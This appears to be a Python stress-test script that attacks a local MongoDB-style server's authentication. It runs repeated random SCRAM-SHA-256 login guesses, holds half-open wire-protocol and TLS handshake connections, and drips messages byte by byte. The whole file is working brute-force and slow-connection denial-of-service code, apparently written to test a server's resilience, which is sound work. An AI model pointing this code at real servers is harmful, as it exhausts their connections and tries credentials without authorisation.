"""A program that attacks the logins of a server until it is killed: wrong proofs, handshakes that stay half open, and drips.

Arguments: the port, the number of connections of each kind.
"""

import base64
import os
import socket
import struct
import sys
import threading
import time

import bson

HEADER = struct.Struct("<iiii")


def message(database, body):
    body = struct.pack("<IB", 0, 0) + bson.encode({**body, "$db": database})
    return HEADER.pack(HEADER.size + len(body), 1, 0, 2013) + body


def answer(connection):
    read = b""
    while len(read) < 4 or len(read) < struct.unpack("<i", read[:4])[0]:
        part = connection.recv(65536)
        if not part:
            raise ConnectionError
        read += part
    return bson.decode(read[21:])


def guess(port):
    """Logs in with proofs by chance, again and again."""
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port)) as connection:
                while True:
                    nonce = base64.b64encode(os.urandom(18)).decode()
                    start = {"saslStart": 1, "mechanism": "SCRAM-SHA-256", "payload": f"n,,n=ada,r={nonce}".encode()}
                    connection.sendall(message("admin", start))
                    given = answer(connection)["payload"].decode().split(",")[0]
                    final = f"c=biws,{given},p={base64.b64encode(os.urandom(32)).decode()}".encode()
                    connection.sendall(message("admin", {"saslContinue": 1, "conversationId": 1, "payload": final}))
                    assert answer(connection)["code"] == 18
        except (OSError, ConnectionError, KeyError):
            time.sleep(0.1)


def hold(port, count, beginning):
    """Opens connections that send only this, and opens them again when they are closed."""
    opened = []
    while True:
        while len(opened) < count:
            try:
                connection = socket.create_connection(("127.0.0.1", port))
                connection.sendall(beginning)
                opened.append(connection)
            except OSError:
                break
        time.sleep(0.5)
        opened = [connection for connection in opened if connection.fileno() >= 0]


def drip(port):
    """Sends a message byte by byte."""
    whole = message("admin", {"hello": 1, "text": "x" * 10_000})
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port)) as connection:
                for at in range(len(whole)):
                    connection.sendall(whole[at:at + 1])
                    time.sleep(0.05)
        except OSError:
            time.sleep(0.1)


def main():
    os.nice(10)
    port, count = int(sys.argv[1]), int(sys.argv[2])
    begun_message = message("admin", {"hello": 1, "text": "x" * 1000})[:-500]
    begun_handshake = bytes([0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3]) + bytes(200)
    threads = [threading.Thread(target=guess, args=(port,), daemon=True) for _ in range(count)]
    threads += [threading.Thread(target=hold, args=(port, count, begun), daemon=True) for begun in (begun_message, begun_handshake)]
    threads += [threading.Thread(target=drip, args=(port,), daemon=True) for _ in range(10)]
    for thread in threads:
        thread.start()
    print("attacking", flush=True)
    while True:
        time.sleep(60)


if __name__ == "__main__":
    main()
